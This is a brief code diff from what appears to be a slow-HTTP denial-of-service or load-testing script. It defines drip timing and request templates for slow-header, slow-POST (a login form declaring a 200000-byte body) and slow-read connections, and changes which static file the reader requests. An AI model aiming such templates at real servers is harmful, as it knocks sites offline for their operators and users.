@@ -18,9 +18,7 @@ DRIP_SECONDS = 1.0  # between two bytes of a connection
 HEAD = b"GET /search?q=a HTTP/1.1\r\nHost: site\r\nX-Slow: "
 FORM = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000"
 BODY = b"POST /admin/login HTTP/1.1\r\nHost: site\r\n" + FORM + b"\r\n\r\n"
-READER = (
-    b"GET /static/openapi.json HTTP/1.1\r\nHost: site\r\n\r\n"  # the largest response that the site need not compute
-)
+READER = b"GET /static/style.css HTTP/1.1\r\nHost: site\r\n\r\n"  # the largest response that the site need not compute
 FIRST: Mapping[str, bytes] = {"head": HEAD, "body": BODY, "reader": READER}
 
 
